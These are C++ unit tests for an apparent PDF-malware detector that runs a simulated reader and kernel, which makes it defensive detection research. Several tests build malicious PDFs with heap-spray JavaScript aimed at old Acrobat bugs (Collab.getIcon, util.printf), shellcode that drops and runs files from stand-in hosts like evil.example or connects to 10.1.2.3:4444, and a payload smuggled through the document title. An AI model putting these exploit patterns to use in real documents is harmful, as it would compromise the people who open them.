  prog.ops.push_back({"DROP", {"http://evil/m.exe", "c:/m.exe"}});
  prog.ops.push_back({"EXEC", {"c:/m.exe"}});
  prog.ops.push_back({"HUNT", {"12"}});
  prog.ops.push_back({"CONNECT", {"10.1.2.3", "4444"}});
  const std::string wire = rd::encode_shellcode(prog);
  const std::string memory = std::string(5000, '\x90') + wire + "trailer";
  auto parsed = rd::extract_shellcode(memory);
  ASSERT_TRUE(parsed.has_value());
  ASSERT_EQ(parsed->ops.size(), 4u);
  EXPECT_EQ(parsed->ops[0].op, "DROP");
  EXPECT_EQ(parsed->ops[0].args,
            (std::vector<std::string>{"http://evil/m.exe", "c:/m.exe"}));
  EXPECT_EQ(parsed->ops[3].args, (std::vector<std::string>{"10.1.2.3", "4444"}));
}

TEST(Shellcode, ExtractReturnsNulloptWithoutMarker) {
  EXPECT_FALSE(rd::extract_shellcode(std::string(1000, 'A')).has_value());
  EXPECT_FALSE(rd::extract_shellcode("SC{unterminated").has_value());
}

TEST(Shellcode, ExecuteIssuesHookableApiCalls) {
  sy::Kernel k;
  auto& p = k.create_process("AcroRd32.exe");
  rd::ShellcodeProgram prog;
  prog.ops.push_back({"DROP", {"http://evil/m.exe", "c:/m.exe"}});
  prog.ops.push_back({"EXEC", {"c:/m.exe"}});
  prog.ops.push_back({"HUNT", {"8"}});
  const std::size_t calls = rd::execute_shellcode(k, p.pid(), prog);
  EXPECT_EQ(calls, 10u);  // 1 drop + 1 exec + 8 hunt probes
  EXPECT_TRUE(k.fs().exists("c:/m.exe"));
  EXPECT_EQ(k.event_log().size(), 10u);
}

// ---------------------------------------------------------------------------
// Vulnerability table
// ---------------------------------------------------------------------------

TEST(Vulns, TableLookupAndVersionGating) {
  const rd::VulnSpec* v = rd::find_vulnerability("CVE-2009-0927");
  ASSERT_NE(v, nullptr);
  EXPECT_TRUE(rd::version_affected(*v, 9));
  EXPECT_FALSE(rd::version_affected(*v, 11));
  EXPECT_EQ(rd::find_vulnerability("CVE-1999-0000"), nullptr);

  // The two noise CVEs must NOT affect Acrobat 8/9.
  for (const char* cve : {"CVE-2009-1492", "CVE-2013-0640"}) {
    const rd::VulnSpec* nv = rd::find_vulnerability(cve);
    ASSERT_NE(nv, nullptr) << cve;
    EXPECT_FALSE(rd::version_affected(*nv, 8)) << cve;
    EXPECT_FALSE(rd::version_affected(*nv, 9)) << cve;
  }
}

// ---------------------------------------------------------------------------
// Reader basics
// ---------------------------------------------------------------------------

TEST(Reader, OpensBenignDocAndRunsJs) {
  sy::Kernel k;
  rd::ReaderSim reader(k);
  auto r = reader.open_document(pdf_with_open_action("var x = 1 + 1;"), "a.pdf");
  EXPECT_TRUE(r.parsed);
  EXPECT_TRUE(r.js_ran);
  EXPECT_FALSE(r.crashed);
  EXPECT_TRUE(r.fired_cves.empty());
  EXPECT_EQ(reader.open_count(), 1u);
}

TEST(Reader, UnparseableFileDoesNothing) {
  sy::Kernel k;
  rd::ReaderSim reader(k);
  auto r = reader.open_document(sp::to_bytes("this is not a pdf"), "junk.bin");
  EXPECT_FALSE(r.parsed);
  EXPECT_FALSE(r.js_ran);
  EXPECT_EQ(reader.open_count(), 0u);
}

TEST(Reader, RenderMemoryGrowsAndShrinksWithDocs) {
  sy::Kernel k;
  rd::ReaderSim reader(k);
  const std::uint64_t before = reader.process().memory_bytes();
  auto file = pdf_with_open_action("var ok = true;");
  reader.open_document(file, "a.pdf");
  reader.open_document(file, "b.pdf");
  const std::uint64_t during = reader.process().memory_bytes();
  EXPECT_GT(during, before);
  reader.close_all();
  EXPECT_LT(reader.process().memory_bytes(), during);
  EXPECT_EQ(reader.open_count(), 0u);
}

TEST(Reader, JsErrorsDoNotCrashReader) {
  sy::Kernel k;
  rd::ReaderSim reader(k);
  auto r = reader.open_document(pdf_with_open_action("throw 'oops';"), "a.pdf");
  EXPECT_TRUE(r.js_ran);
  EXPECT_FALSE(r.crashed);
  auto r2 = reader.open_document(
      pdf_with_open_action("this is a syntax error !!!"), "b.pdf");
  EXPECT_FALSE(r2.crashed);
}

TEST(Reader, DocInfoVisibleToJavascript) {
  // The extraction-evasion idiom: payload hidden in the title.
  pd::Document doc;
  pd::Dict info;
  info.set("Title", pd::Object::string("needle-in-title"));
  const pd::Ref info_ref = doc.add_object(pd::Object(info));
  pd::Dict action;
  action.set("S", pd::Object::name("JavaScript"));
  action.set("JS", pd::Object::string(
                       "var probe = this.info.Title;"
                       "if (probe != 'needle-in-title') throw 'bad';"));
  const pd::Ref a_ref = doc.add_object(pd::Object(action));
  pd::Dict catalog;
  catalog.set("Type", pd::Object::name("Catalog"));
  catalog.set("OpenAction", pd::Object(a_ref));
  doc.trailer().set("Root", pd::Object(doc.add_object(pd::Object(catalog))));
  doc.trailer().set("Info", pd::Object(info_ref));

  sy::Kernel k;
  rd::ReaderSim reader(k);
  auto r = reader.open_document(pd::write_document(doc), "t.pdf");
  EXPECT_TRUE(r.js_ran);
  EXPECT_FALSE(r.crashed);  // the throw would not crash, but keep the probe honest
}

// ---------------------------------------------------------------------------
// Exploitation model
// ---------------------------------------------------------------------------

TEST(Reader, FullExploitChainDropsAndExecutesMalware) {
  sy::Kernel k;
  rd::ReaderSim reader(k);
  rd::ShellcodeProgram prog;
  prog.ops.push_back({"DROP", {"http://evil.example/m.exe", "c:/m.exe"}});
  prog.ops.push_back({"EXEC", {"c:/m.exe"}});
  const std::string script = spray_script(rd::encode_shellcode(prog)) +
                             "Collab.getIcon(spray.substring(0, 2000));";
  auto r = reader.open_document(pdf_with_open_action(script), "mal.pdf");
  EXPECT_TRUE(r.js_ran);
  EXPECT_FALSE(r.crashed);
  ASSERT_EQ(r.fired_cves.size(), 1u);
  EXPECT_EQ(r.fired_cves[0], "CVE-2009-0927");
  EXPECT_TRUE(k.fs().exists("c:/m.exe"));
  // Dropped malware runs as a child process.
  bool child_found = false;
  for (const auto& [pid, proc] : k.processes()) {
    if (proc->image() == "c:/m.exe") child_found = true;
  }
  EXPECT_TRUE(child_found);
}

TEST(Reader, ExploitWithoutSprayCrashesReader) {
  sy::Kernel k;
  rd::ReaderSim reader(k);
  auto r = reader.open_document(
      pdf_with_open_action("Collab.getIcon(unescape('%u4141') + "
                           "new Array(3000).join('A'));"),
      "crash.pdf");
  EXPECT_TRUE(r.crashed);
  EXPECT_TRUE(r.fired_cves.empty());
  EXPECT_TRUE(reader.process().crashed());
}

TEST(Reader, PatchedCveDoesNothing) {
  // CVE-2009-1492 on Acrobat 9: the paper's "58 samples did nothing" case.
  sy::Kernel k;
  rd::ReaderSim reader(k);
  rd::ShellcodeProgram prog;
  prog.ops.push_back({"EXEC", {"c:/m.exe"}});
  const std::string script = spray_script(rd::encode_shellcode(prog)) +
                             "this.getAnnots(-1);";
  auto r = reader.open_document(pdf_with_open_action(script), "noop.pdf");
  EXPECT_TRUE(r.js_ran);
  EXPECT_FALSE(r.crashed);
  EXPECT_TRUE(r.fired_cves.empty());
  ASSERT_EQ(r.attempted_cves.size(), 1u);
  EXPECT_EQ(r.attempted_cves[0], "CVE-2009-1492");
  EXPECT_FALSE(k.fs().exists("c:/m.exe"));
}

TEST(Reader, VersionGatingChangesOutcome) {
  // util.printf overflow only works on Acrobat 8 in our table.
  rd::ShellcodeProgram prog;
  prog.ops.push_back({"EXEC", {"c:/p.exe"}});
  const std::string script = spray_script(rd::encode_shellcode(prog)) +
                             "util.printf('%45000f', 1);";
  {
    sy::Kernel k;
    rd::ReaderConfig cfg;
    cfg.version = "8.0";
    rd::ReaderSim reader(k, cfg);
    auto r = reader.open_document(pdf_with_open_action(script), "v8.pdf");
    EXPECT_EQ(r.fired_cves.size(), 1u);
  }
  {
    sy::Kernel k;
    rd::ReaderConfig cfg;
    cfg.version = "9.0";
    rd::ReaderSim reader(k, cfg);
    auto r = reader.open_document(pdf_with_open_action(script), "v9.pdf");
    EXPECT_TRUE(r.fired_cves.empty());
    EXPECT_FALSE(r.crashed);
  }
}

TEST(Reader, RenderContextExploitFiresAfterJs) {
  // Flash-style CVE: JS only sprays; the exploit fires while rendering.
  sy::Kernel k;
  rd::ReaderSim reader(k);

  rd::ShellcodeProgram prog;
  prog.ops.push_back({"DROP", {"http://evil/f.exe", "c:/f.exe"}});
  pd::Document doc;
  pd::Dict action;
  action.set("S", pd::Object::name("JavaScript"));
  action.set("JS",
             pd::Object::string(spray_script(rd::encode_shellcode(prog))));
  const pd::Ref a_ref = doc.add_object(pd::Object(action));
  pd::Stream flash;
  flash.dict.set("Type", pd::Object::name("EmbeddedFile"));
  flash.dict.set("Subtype", pd::Object::name("Flash"));
  flash.dict.set("CVE", pd::Object::string("CVE-2010-3654"));
  flash.data = sp::to_bytes("malformed-swf");
  doc.add_object(pd::Object(flash));
  pd::Dict catalog;
  catalog.set("Type", pd::Object::name("Catalog"));
  catalog.set("OpenAction", pd::Object(a_ref));
  doc.trailer().set("Root", pd::Object(doc.add_object(pd::Object(catalog))));

  auto r = reader.open_document(pd::write_document(doc), "flash.pdf");
  ASSERT_EQ(r.fired_cves.size(), 1u);
  EXPECT_EQ(r.fired_cves[0], "CVE-2010-3654");
  EXPECT_TRUE(k.fs().exists("c:/f.exe"));
}

TEST(Reader, DelayedScriptViaSetTimeOutRuns) {
  sy::Kernel k;
  rd::ReaderSim reader(k);
  auto r = reader.open_document(
      pdf_with_open_action("app.setTimeOut('probe_ran = 1; "
                           "util.printf(\"late\");', 5000);"),
      "delay.pdf");
  EXPECT_TRUE(r.js_ran);
  EXPECT_GE(r.scripts_executed, 2u);  // main + delayed
}

TEST(Reader, AddScriptQueuesStagedCode) {
  sy::Kernel k;
  rd::ReaderSim reader(k);
  rd::ShellcodeProgram prog;
  prog.ops.push_back({"EXEC", {"c:/staged.exe"}});
  // Stage 1 sprays and installs stage 2, which triggers the exploit.
  const std::string stage2 = "Collab.getIcon(keep.substring(0, 1500));";
  const std::string stage1 = spray_script(rd::encode_shellcode(prog)) +
                             "this.addScript('st2', '" + stage2 + "');";
  auto r = reader.open_document(pdf_with_open_action(stage1), "staged.pdf");
  EXPECT_GE(r.scripts_executed, 2u);
  ASSERT_EQ(r.fired_cves.size(), 1u);
  EXPECT_EQ(r.fired_cves[0], "CVE-2009-0927");
}

TEST(Reader, SoapEndpointServedLocally) {
  sy::Kernel k;
  rd::ReaderSim reader(k);
  std::vector<std::string> received;
  reader.set_soap_endpoint(
      "http://127.0.0.1:8777/", [&](const pdfshield::js::Value& payload) {
        if (payload.is_object()) {
          received.push_back(pdfshield::js::Interpreter::to_boolean(
                                 payload.as_object()->get("op"))
                                 ? "op"
                                 : "no-op");
        }
        received.push_back("hit");
        auto ok = pdfshield::js::make_object();
        ok->set("status", pdfshield::js::Value("ok"));
        return pdfshield::js::Value(ok);
      });
  auto r = reader.open_document(
      pdf_with_open_action("var resp = SOAP.request({cURL: "
                           "'http://127.0.0.1:8777/pdfshield', oRequest: "
                           "{op: 'enter'}});"
                           "if (resp.status != 'ok') throw 'bad';"),
      "soap.pdf");
  EXPECT_TRUE(r.js_ran);
  EXPECT_FALSE(received.empty());
  // Local SOAP traffic must NOT appear in the network log.
  EXPECT_TRUE(k.net().log().empty());
}

TEST(Reader, ExternalSoapGoesToNetwork) {
  sy::Kernel k;
  rd::ReaderSim reader(k);
  reader.open_document(
      pdf_with_open_action("SOAP.request({cURL: 'http://evil.example/x', "
                           "oRequest: {}});"),
      "ext.pdf");
  ASSERT_EQ(k.net().log().size(), 1u);
  EXPECT_EQ(k.net().log()[0].host, "http://evil.example/x");
}

TEST(Reader, NetHttpUnavailableInsideDocument) {
  sy::Kernel k;
  rd::ReaderSim reader(k);
  auto r = reader.open_document(
      pdf_with_open_action("var failed = false;"
                           "try { Net.HTTP.request({}); } catch (e) { failed"
                           " = true; }"
                           "if (!failed) throw 'should have failed';"),
      "net.pdf");
  EXPECT_TRUE(r.js_ran);
  EXPECT_FALSE(r.crashed);
}

TEST(Reader, CrashedReaderRefusesFurtherDocuments) {
  sy::Kernel k;
  rd::ReaderSim reader(k);
  reader.open_document(
      pdf_with_open_action("Collab.getIcon(new Array(3000).join('B'));"),
      "killer.pdf");
  ASSERT_TRUE(reader.process().crashed());
  auto r = reader.open_document(pdf_with_open_action("var x = 1;"), "next.pdf");
  EXPECT_FALSE(r.js_ran);
}

TEST(Reader, CacheCompactionQuirkTriggersOnce) {
  sy::Kernel k;
  rd::ReaderConfig cfg;
  cfg.cache_optimization_threshold = 40ull * 1024 * 1024;
  rd::ReaderSim reader(k, cfg);
  const auto file = pdf_with_open_action("var x = 0;");
  std::vector<std::uint64_t> series;
  for (int i = 0; i < 12; ++i) {
    reader.open_document(file, "copy-" + std::to_string(i) + ".pdf");
    series.push_back(reader.process().memory_bytes());
  }
  // Memory must dip somewhere (compaction) then resume growing.
  bool dipped = false;
  for (std::size_t i = 1; i < series.size(); ++i) {
    if (series[i] < series[i - 1]) dipped = true;
  }
  EXPECT_TRUE(dipped);
  EXPECT_GT(series.back(), series.front() / 2);
}

TEST(Reader, EggHuntShellcodeEmitsSearchApis) {
  sy::Kernel k;
  rd::ReaderSim reader(k);
  rd::ShellcodeProgram prog;
  prog.ops.push_back({"HUNT", {"20"}});
  prog.ops.push_back({"WRITE", {"c:/egg.exe", "embedded-malware"}});
  prog.ops.push_back({"EXEC", {"c:/egg.exe"}});
  const std::string script = spray_script(rd::encode_shellcode(prog)) +
                             "this.media.newPlayer(null);";
  auto r = reader.open_document(pdf_with_open_action(script), "egg.pdf");
  ASSERT_EQ(r.fired_cves.size(), 1u);
  int hunt_calls = 0;
  for (const auto& e : k.event_log()) {
    if (e.api == "NtAccessCheckAndAuditAlarm" || e.api == "IsBadReadPtr" ||
        e.api == "NtDisplayString" || e.api == "NtAddAtom") {
      ++hunt_calls;
    }
  }
  EXPECT_EQ(hunt_calls, 20);
  EXPECT_TRUE(k.fs().exists("c:/egg.exe"));
}
