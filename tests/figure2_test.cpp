// Figure 2 fidelity test: reconstructs the paper's synthetic malicious
// sample — ten indirect objects, multiple possible chain start points
// ((2 0), (4 0), (5 0)), the /JavaScr#69pt hex-escaped keyword in object
// (4 0), a decoy chain ending in an empty object at (6 0), and shellcode
// smuggled through the document title referenced as this.info.title —
// then verifies chain reconstruction, the static features, and end-to-end
// detection behave exactly as §III describes.
#include <gtest/gtest.h>

#include "core/detector.hpp"
#include "core/pipeline.hpp"
#include "core/static_features.hpp"
#include "pdf/parser.hpp"
#include "reader/reader_sim.hpp"
#include "reader/shellcode.hpp"
#include "sys/kernel.hpp"

namespace co = pdfshield::core;
namespace pd = pdfshield::pdf;
namespace rd = pdfshield::reader;
namespace sy = pdfshield::sys;
namespace sp = pdfshield::support;

namespace {

// The Figure-2 document, written out in raw PDF syntax so the obfuscated
// spellings survive exactly as the paper draws them.
std::string figure2_pdf() {
  rd::ShellcodeProgram prog;
  prog.ops.push_back({"DROP", {"http://evil.example/fig2.exe", "c:/fig2.exe"}});
  prog.ops.push_back({"EXEC", {"c:/fig2.exe"}});
  // The title carries the real payload (§II: "attackers can hide shellcode
  // at some weird places in a document, e.g., in the title").
  const std::string title_payload =
      "var unit = unescape('%u9090%u9090') + '" +
      rd::encode_shellcode(prog) + "';"
      "var spray = unit; while (spray.length < 2097152) spray += spray;"
      "var keep = spray; Collab.getIcon(keep.substring(0, 1500));";

  return
      "%PDF-1.6\n"
      // (1 0) catalog: the trigger root.
      "1 0 obj\n<< /Type /Catalog /Pages 8 0 R /OpenAction 2 0 R /Names 9 0 R >>\nendobj\n"
      // (2 0) first start point: action with the hex-escaped keyword,
      // whose /JS code lives in the stream (4 0).
      "2 0 obj\n<< /Type /Action /S /JavaScr#69pt /JS 4 0 R /Next 5 0 R >>\nendobj\n"
      // (3 0) info dictionary holding the smuggled payload.
      "3 0 obj\n<< /Title (" + title_payload + ") >>\nendobj\n"
      // (4 0) the extraction-evading stub.
      "4 0 obj\n<< /Length 22 >>\nstream\neval(this.info.Title);\nendstream\nendobj\n"
      // (5 0) second start point: chained action whose chain dead-ends.
      "5 0 obj\n<< /Type /Action /S /JavaScript /JS (var decoy = 1;) /Aux 6 0 R >>\nendobj\n"
      // (6 0) the empty object terminating a decoy chain.
      "6 0 obj\n<< >>\nendobj\n"
      // (7 0) a blank page.
      "7 0 obj\n<< /Type /Page /Parent 8 0 R >>\nendobj\n"
      // (8 0) page tree.
      "8 0 obj\n<< /Type /Pages /Kids [7 0 R] /Count 1 >>\nendobj\n"
      // (9 0) names dictionary -> (10 0) javascript tree (empty).
      "9 0 obj\n<< /JavaScript 10 0 R >>\nendobj\n"
      "10 0 obj\n<< /Names [] >>\nendobj\n"
      "trailer\n<< /Root 1 0 R /Info 3 0 R /Size 11 >>\n"
      "startxref\n0\n%%EOF\n";
}

}  // namespace

TEST(Figure2, TenIndirectObjectsParse) {
  pd::ParseStats stats;
  pd::Document doc = pd::parse_document(sp::to_bytes(figure2_pdf()), &stats);
  EXPECT_EQ(stats.indirect_objects, 10u);
  ASSERT_NE(doc.catalog(), nullptr);
}

TEST(Figure2, ChainReconstructionFindsBothScripts) {
  pd::Document doc = pd::parse_document(sp::to_bytes(figure2_pdf()));
  const co::JsChainAnalysis a = co::analyze_js_chains(doc);
  ASSERT_EQ(a.sites.size(), 2u);  // objects (2 0) and (5 0) carry /JS
  for (const auto& site : a.sites) {
    EXPECT_TRUE(site.triggered) << "object " << site.object_num;
  }
  // The /Next link puts both sites in one sequence (§III-C).
  EXPECT_EQ(a.sites[0].sequence_id, a.sites[1].sequence_id);
  // The chain covers the decoy's empty object and the catalog.
  EXPECT_TRUE(a.chain_objects.count(6));
  EXPECT_TRUE(a.chain_objects.count(1));
}

TEST(Figure2, StaticFeaturesMatchTheFigure) {
  pd::Document doc = pd::parse_document(sp::to_bytes(figure2_pdf()));
  const co::StaticFeatures f = co::extract_static_features(doc);
  EXPECT_TRUE(f.f1()) << "sparse doc: high chain ratio, got " << f.js_chain_ratio;
  EXPECT_TRUE(f.f3()) << "/JavaScr#69pt must be flagged";
  EXPECT_TRUE(f.f4()) << "the empty object (6 0) must be counted";
  EXPECT_GE(f.binary_sum(), 3);
}

TEST(Figure2, TitleSmuggledPayloadDefeatsBareExtraction) {
  // Extract-and-emulate (§II critique): the visible script is just
  // eval(this.info.Title) — in a bare engine it dies immediately.
  pd::Document doc = pd::parse_document(sp::to_bytes(figure2_pdf()));
  const co::JsChainAnalysis a = co::analyze_js_chains(doc);
  std::string all;
  for (const auto& s : a.sites) all += s.source;
  EXPECT_NE(all.find("this.info.Title"), std::string::npos);
  EXPECT_EQ(all.find("unescape"), std::string::npos)
      << "the spray payload must not be visible in the extracted JS";
}

TEST(Figure2, EndToEndDetectionAndConfinement) {
  sy::Kernel kernel;
  sp::Rng rng(42);
  co::RuntimeDetector detector(kernel, rng);
  co::FrontEnd frontend(rng, detector.detector_id());
  rd::ReaderSim reader(kernel);
  detector.attach(reader);

  co::FrontEndResult fe = frontend.process(sp::to_bytes(figure2_pdf()));
  ASSERT_TRUE(fe.ok);
  ASSERT_EQ(fe.record.entries.size(), 2u);
  detector.register_document(fe.record.key, "figure2.pdf", fe.features);
  auto r = reader.open_document(fe.output, "figure2.pdf");
  EXPECT_TRUE(r.js_ran);
  ASSERT_EQ(r.fired_cves.size(), 1u);
  EXPECT_EQ(r.fired_cves[0], "CVE-2009-0927");

  const co::Verdict v = detector.verdict(fe.record.key);
  EXPECT_TRUE(v.malicious);
  EXPECT_GE(v.malscore, 30.0) << "static + several in-JS features";
  EXPECT_TRUE(kernel.fs().exists("quarantine://c:/fig2.exe"));
}
