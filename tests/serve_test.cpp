// Serve-mode contracts: admission control answers every request exactly
// once and bounds in-flight work; degraded verdicts are byte-identical to
// a --static-prefilter batch; shutdown drains; verdicts are identical at
// any worker width; the socket endpoint round-trips; and admission +
// degradation land on the trace spine next to every document's verdict.
#include <gtest/gtest.h>

#include <atomic>
#include <condition_variable>
#include <filesystem>
#include <fstream>
#include <map>
#include <mutex>
#include <string>
#include <vector>

#include "core/batch_scanner.hpp"
#include "core/scan_service.hpp"
#include "core/serve_endpoints.hpp"
#include "corpus/generator.hpp"

using namespace pdfshield;

namespace {

std::vector<corpus::Sample> make_corpus(std::size_t benign,
                                        std::size_t malicious) {
  corpus::CorpusGenerator gen;
  std::vector<corpus::Sample> samples = gen.generate_benign(benign);
  for (auto& s : gen.generate_malicious(malicious)) {
    samples.push_back(std::move(s));
  }
  return samples;
}

support::BytesView view_of(const corpus::Sample& s) {
  return {s.data.data(), s.data.size()};
}

/// Collects one response per submit and can block until all have arrived.
class ResponseCollector {
 public:
  core::ScanService::Callback callback() {
    return [this](const core::ScanResponse& response) {
      std::lock_guard<std::mutex> lock(mutex_);
      responses_.push_back(response);
      cv_.notify_all();
    };
  }

  void wait_for(std::size_t n) {
    std::unique_lock<std::mutex> lock(mutex_);
    cv_.wait(lock, [&] { return responses_.size() >= n; });
  }

  std::vector<core::ScanResponse> responses() {
    std::lock_guard<std::mutex> lock(mutex_);
    return responses_;
  }

 private:
  std::mutex mutex_;
  std::condition_variable cv_;
  std::vector<core::ScanResponse> responses_;
};

TEST(ScanServiceTest, OverloadRejectsExplicitlyAndAnswersEveryRequest) {
  const std::vector<corpus::Sample> samples = make_corpus(8, 0);
  core::ServeOptions options;
  options.jobs = 1;
  options.max_inflight_docs = 1;  // one document in flight, ever
  core::ScanService service(options);

  ResponseCollector collector;
  std::size_t submitted = 0;
  // Burst far faster than one worker can scan: everything beyond the
  // in-flight bound must come back as an explicit rejection, immediately.
  for (int round = 0; round < 4; ++round) {
    for (const auto& s : samples) {
      service.submit(s.name, view_of(s), nullptr, collector.callback());
      ++submitted;
    }
  }
  collector.wait_for(submitted);
  service.drain();

  const std::vector<core::ScanResponse> responses = collector.responses();
  ASSERT_EQ(responses.size(), submitted);  // exactly one answer each
  std::size_t rejected = 0;
  for (const auto& r : responses) {
    if (!r.accepted) {
      ++rejected;
      EXPECT_EQ(r.reject_reason, "overloaded");
      EXPECT_NE(r.to_jsonl().find("\"rejected\":\"overloaded\""),
                std::string::npos);
    }
  }
  EXPECT_GT(rejected, 0u);  // the burst had to shed load
  const core::ServeStats stats = service.stats();
  EXPECT_EQ(stats.submitted, submitted);
  EXPECT_EQ(stats.accepted + stats.rejected, submitted);
  EXPECT_EQ(stats.completed, stats.accepted);  // nothing queued unbounded
}

TEST(ScanServiceTest, OversizedDocumentRejectedBeforeAdmission) {
  core::ServeOptions options;
  options.jobs = 1;
  options.max_doc_bytes = 64;
  core::ScanService service(options);

  const support::Bytes big(1024, 0x41);
  ResponseCollector collector;
  EXPECT_FALSE(service.submit("big.pdf", big, collector.callback()));
  collector.wait_for(1);
  const auto responses = collector.responses();
  ASSERT_EQ(responses.size(), 1u);
  EXPECT_FALSE(responses[0].accepted);
  EXPECT_EQ(responses[0].reject_reason, "oversized");
}

// The degradation ladder's core guarantee: a degraded verdict is exactly
// the --static-prefilter verdict — same crc, same conviction, same score,
// same skip set — because degradation *is* the prefilter contract.
TEST(ScanServiceTest, DegradedVerdictsMatchStaticPrefilterByteForByte) {
  const std::vector<corpus::Sample> samples = make_corpus(6, 6);

  core::ServeOptions options;
  options.jobs = 2;
  options.force_degraded = true;
  options.detonate = true;
  core::ScanService service(options);
  ResponseCollector collector;
  for (const auto& s : samples) {
    service.submit(s.name, view_of(s), nullptr, collector.callback());
  }
  collector.wait_for(samples.size());
  service.drain();

  core::BatchOptions batch_options;
  batch_options.jobs = 1;
  batch_options.detonate = true;
  batch_options.static_prefilter = true;
  batch_options.detector_id = service.detector_id();
  std::vector<core::BatchItem> items;
  for (const auto& s : samples) items.push_back({s.name, s.data});
  const core::BatchReport batch = core::BatchScanner(batch_options).scan(items);

  std::map<std::string, const core::BatchDocResult*> by_name;
  for (const auto& doc : batch.docs) by_name[doc.name] = &doc;
  std::size_t skipped = 0;
  for (const auto& r : collector.responses()) {
    ASSERT_TRUE(r.accepted);
    EXPECT_TRUE(r.degraded);
    ASSERT_NE(by_name.count(r.name), 0u) << r.name;
    const core::BatchDocResult& b = *by_name[r.name];
    EXPECT_EQ(r.doc.ok, b.ok) << r.name;
    EXPECT_EQ(r.doc.output_crc32, b.output_crc32) << r.name;
    EXPECT_EQ(r.doc.suspicious, b.suspicious) << r.name;
    EXPECT_EQ(r.doc.static_skipped, b.static_skipped) << r.name;
    EXPECT_EQ(r.doc.detonated, b.detonated) << r.name;
    EXPECT_EQ(r.doc.malicious, b.malicious) << r.name;
    EXPECT_DOUBLE_EQ(r.doc.malscore, b.malscore) << r.name;
    if (r.doc.static_skipped) ++skipped;
  }
  EXPECT_GT(skipped, 0u);  // benign docs actually skipped detonation
  const core::ServeStats stats = service.stats();
  EXPECT_EQ(stats.degraded_docs, samples.size());
  EXPECT_EQ(stats.malicious,
            static_cast<std::uint64_t>(batch.malicious_count));
}

TEST(ScanServiceTest, DestructionDrainsEveryAdmittedDocument) {
  const std::vector<corpus::Sample> samples = make_corpus(10, 2);
  std::atomic<std::size_t> answered{0};
  std::atomic<std::size_t> admitted{0};
  {
    core::ServeOptions options;
    options.jobs = 2;
    core::ScanService service(options);
    for (const auto& s : samples) {
      if (service.submit(s.name, view_of(s), nullptr,
                         [&answered](const core::ScanResponse&) {
                           answered.fetch_add(1);
                         })) {
        admitted.fetch_add(1);
      }
    }
    // No drain: the destructor itself must not strand admitted documents.
  }
  EXPECT_GT(admitted.load(), 0u);
  EXPECT_EQ(answered.load(), samples.size());  // rejects answered too
}

// Steal-heavy skew: every worker width must produce the same verdicts.
// Submissions land via round-robin placement and migrate by stealing, so
// wide runs exercise genuinely different schedules than --jobs 1.
TEST(ScanServiceTest, VerdictsIdenticalAcrossWorkerWidths) {
  const std::vector<corpus::Sample> samples = make_corpus(8, 8);
  using DocKey = std::tuple<bool, std::uint32_t, bool, double>;
  std::map<std::string, DocKey> reference;
  for (std::size_t jobs : {1u, 2u, 8u}) {
    core::ServeOptions options;
    options.jobs = jobs;
    options.detonate = true;
    // Whole burst admitted, never degraded: this test isolates scheduling
    // (placement + stealing) as the only variable across widths.
    options.max_inflight_docs = samples.size() + 1;
    options.degrade_depth = samples.size() + 1;
    core::ScanService service(options);
    ResponseCollector collector;
    for (const auto& s : samples) {
      service.submit(s.name, view_of(s), nullptr, collector.callback());
    }
    collector.wait_for(samples.size());
    service.drain();
    std::map<std::string, DocKey> verdicts;
    for (const auto& r : collector.responses()) {
      ASSERT_TRUE(r.accepted);
      verdicts[r.name] =
          DocKey{r.doc.ok, r.doc.output_crc32, r.doc.malicious,
                 r.doc.malscore};
    }
    ASSERT_EQ(verdicts.size(), samples.size());
    if (jobs == 1) {
      reference = verdicts;
    } else {
      EXPECT_EQ(verdicts, reference) << "verdicts diverged at jobs=" << jobs;
    }
  }
}

TEST(ScanServiceTest, SocketEndpointRoundTrips) {
  const std::vector<corpus::Sample> samples = make_corpus(1, 1);
  core::ServeOptions options;
  options.jobs = 2;
  core::ScanService service(options);
  const std::string sock =
      (std::filesystem::temp_directory_path() / "pdfshield-serve-test.sock")
          .string();
  core::serve::SocketServer server(service, sock);
  server.start();

  const std::string benign_line =
      core::serve::socket_scan(sock, samples[0].name, view_of(samples[0]));
  const std::string mal_line =
      core::serve::socket_scan(sock, samples[1].name, view_of(samples[1]));
  server.stop();

  EXPECT_NE(benign_line.find("\"accepted\":true"), std::string::npos);
  EXPECT_NE(benign_line.find("\"malicious\":false"), std::string::npos);
  EXPECT_NE(mal_line.find("\"malicious\":true"), std::string::npos);
  // The wire verdict is the in-process verdict: same service, same
  // run_document, so the crc over the socket matches a direct submit.
  ResponseCollector collector;
  service.submit(samples[0].name, view_of(samples[0]), nullptr,
                 collector.callback());
  collector.wait_for(1);
  const auto direct = collector.responses();
  EXPECT_NE(benign_line.find("\"output_crc32\":" +
                             std::to_string(direct[0].doc.output_crc32)),
            std::string::npos);
}

TEST(ScanServiceTest, TraceSpineCarriesAdmissionAndDegradation) {
  const std::vector<corpus::Sample> samples = make_corpus(10, 2);
  const std::string trace_path =
      (std::filesystem::temp_directory_path() / "pdfshield-serve-trace.jsonl")
          .string();
  std::filesystem::remove(trace_path);

  std::vector<core::ScanResponse> responses;
  {
    core::ServeOptions options;
    options.jobs = 1;
    options.max_inflight_docs = 64;
    options.degrade_depth = 3;  // the burst below must trip the ladder
    options.restore_depth = 1;
    options.static_prefilter = false;
    options.trace_path = trace_path;
    core::ScanService service(options);
    ResponseCollector collector;
    for (const auto& s : samples) {
      service.submit(s.name, view_of(s), nullptr, collector.callback());
    }
    collector.wait_for(samples.size());
    service.drain();
    responses = collector.responses();
    EXPECT_GT(service.stats().degrade_enters, 0u);
  }  // destruction flushes the JSONL sink

  std::ifstream in(trace_path);
  ASSERT_TRUE(in.good());
  std::string text((std::istreambuf_iterator<char>(in)),
                   std::istreambuf_iterator<char>());
  EXPECT_NE(text.find("\"kind\":\"admission\""), std::string::npos);
  EXPECT_NE(text.find("\"kind\":\"degradation\""), std::string::npos);
  EXPECT_NE(text.find("\"entered\":true"), std::string::npos);
  EXPECT_NE(text.find("\"entered\":false"), std::string::npos);  // restored
  // Every admitted document is accounted for on the spine: an admission
  // event and a closing doc-verdict, including statically skipped ones
  // (their clean-static verdict is what keeps replay complete under
  // degradation).
  for (const auto& r : responses) {
    ASSERT_TRUE(r.accepted);
    EXPECT_NE(text.find("\"doc\":\"" + r.name + "\""), std::string::npos)
        << r.name;
  }
  std::size_t verdicts = 0;
  for (std::size_t pos = 0;
       (pos = text.find("\"kind\":\"doc-verdict\"", pos)) != std::string::npos;
       ++pos) {
    ++verdicts;
  }
  EXPECT_GE(verdicts, responses.size());
  std::filesystem::remove(trace_path);
}

}  // namespace
