// Unit tests for the support library: encodings, checksums, RNG, stats,
// strings, tables.
